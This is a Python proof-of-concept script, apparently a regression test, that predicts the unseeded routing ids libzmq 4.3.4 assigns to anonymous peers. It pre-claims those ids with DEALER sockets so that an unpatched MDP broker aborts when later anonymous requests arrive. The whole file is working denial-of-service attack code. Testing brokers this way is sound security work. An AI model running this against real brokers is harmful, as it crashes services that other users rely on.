#!/usr/bin/python3
"""A hostile broker peer: claims the routing ids libzmq will hand to the next anonymous peers.

libzmq (4.3.4) gives a ROUTER peer without a routing id the id 0x00 + a 32-bit counter that
starts at rand() output, and never seeds rand(): the start is the same on every run. This
peer computes the first few starts (glibc rand() from seed 1, libzmq's generate_random),
connects one DEALER per id start..start+CLAIM-1 with ZMQ_ROUTING_ID set to it, then makes
anonymous MDP/0.1 mmi requests, each from a fresh REQ socket: an unpatched broker aborts when
one of them is given a claimed id.

  claim_ids.py ENDPOINT ANONYMOUS     prints CLAIMED n, then SERVED k per anonymous request

Optional environment: MDP_USER / MDP_TOKEN for PLAIN authentication (one client token).
Exits 0 when every anonymous request was answered, 1 on the first one left unanswered.
"""
import ctypes
import struct
import sys

import zmq

from mdp_peer import socket  # same directory; PLAIN credentials from MDP_USER / MDP_TOKEN

STARTS = 4  # sockets in the broker that draw a counter start (ZAP REP, ROUTER), plus margin
CLAIM = 12  # ids claimed after each start
TIMEOUT_MS = 30000


def starts():
    libc = ctypes.CDLL(None)
    libc.srand(1)
    out = []
    for _ in range(STARTS):
        low = libc.rand() & 0xFFFFFFFF
        high = (libc.rand() << 31) & 0xFFFFFFFF
        out.append(high | low)
    return out


def main(endpoint, anonymous):
    held = []
    for start in starts():
        for k in range(CLAIM):
            s = socket(zmq.DEALER)
            s.setsockopt(zmq.ROUTING_ID, b"\x00" + struct.pack(">I", (start + k) & 0xFFFFFFFF))
            monitor = s.get_monitor_socket(zmq.EVENT_HANDSHAKE_SUCCEEDED)
            s.connect(endpoint)
            held.append((s, monitor))
    for s, monitor in held:
        if not monitor.poll(TIMEOUT_MS):
            print("NO HANDSHAKE", flush=True)
            return 1
    print("CLAIMED", len(held), flush=True)
    for n in range(anonymous):
        s = socket(zmq.REQ)
        s.connect(endpoint)
        s.send_multipart([b"MDPC01", b"mmi.service", b"echo"])
        if not s.poll(TIMEOUT_MS):
            print("UNANSWERED", n, flush=True)
            return 1
        s.recv_multipart()
        s.close()
        print("SERVED", n, flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1], int(sys.argv[2])))
